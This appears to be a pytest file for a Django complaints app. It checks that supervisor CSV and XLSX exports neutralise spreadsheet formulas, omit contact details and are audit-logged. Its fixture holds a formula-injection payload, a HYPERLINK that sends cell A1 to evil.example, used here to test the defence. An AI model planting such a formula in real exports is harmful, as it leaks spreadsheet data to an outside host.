"""Supervisors export complaints to CSV and XLSX; formulas are neutralised; exports are logged."""

import csv
import io

import pytest
from openpyxl import load_workbook

from forms.admin_views import neutralise_formula
from forms.models import AuditEntry

from .conftest import make_staff, valid_data

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik") jalan berlubang di depan pasar'


@pytest.fixture
def supervisor_client(client, setup, django_user_model):
    client.post(setup.url, valid_data(setup, description=FORMULA, name="@Budi Santoso"))
    client.force_login(make_staff(django_user_model, "supervisor", group="Supervisor Pengaduan"))
    return client


def test_csv_export_neutralises_formulas_and_is_logged(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=csv")
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    description = rows[1][rows[0].index("Uraian")]
    assert description.startswith("'=HYPERLINK")
    entry = AuditEntry.objects.get(action="export")
    assert entry.username == "supervisor"
    assert "CSV, 1" in entry.detail


def test_xlsx_export_holds_text_not_formulas(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("Uraian") + 1)
    assert cell.data_type == "s"
    assert str(cell.value).startswith("'=HYPERLINK")


def test_export_carries_no_contact_data_or_nik(supervisor_client):
    response = supervisor_client.get("/admin/pengaduan/kotak-masuk/?export=csv")
    content = b"".join(response.streaming_content).decode()
    assert "Budi" not in content
    assert "+62" not in content
    assert "budi@example.com" not in content


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("aman", "aman"),
        (42, 42),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected
